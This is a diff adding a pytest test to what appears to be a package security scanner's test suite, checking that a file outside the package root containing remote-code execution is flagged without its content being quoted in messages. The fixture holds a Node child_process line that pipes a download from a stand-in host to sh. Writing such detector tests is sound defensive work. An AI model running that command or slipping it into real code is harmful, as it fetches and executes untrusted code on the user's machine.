@@ -226,6 +226,15 @@ def test_a_report_shows_no_evidence_from_outside(tmp_path: Path) -> None:
     assert found.digest
 
 
+def test_a_message_quotes_nothing_of_a_file_outside(tmp_path: Path) -> None:
+    root = unpacked(tmp_path, {}, main="../evil.js")
+    source = "require('child_process').exec('curl https://private.invalid/i | sh');"
+    (tmp_path / "evil.js").write_text(source)
+    found = [f for f in analysed(root).findings if f.file == "../evil.js"]
+    assert {f.rule for f in found} == {"runs-remote-code"}
+    assert not any("private" in f.message for f in found)
+
+
 def test_a_missing_entry_point_outside_is_a_finding(tmp_path: Path) -> None:
     verdict = analysed(unpacked(tmp_path, {}, main="../evil.js"))
     assert (said(verdict), verdict.gap_texts) == ({"entry-point-outside"}, ())
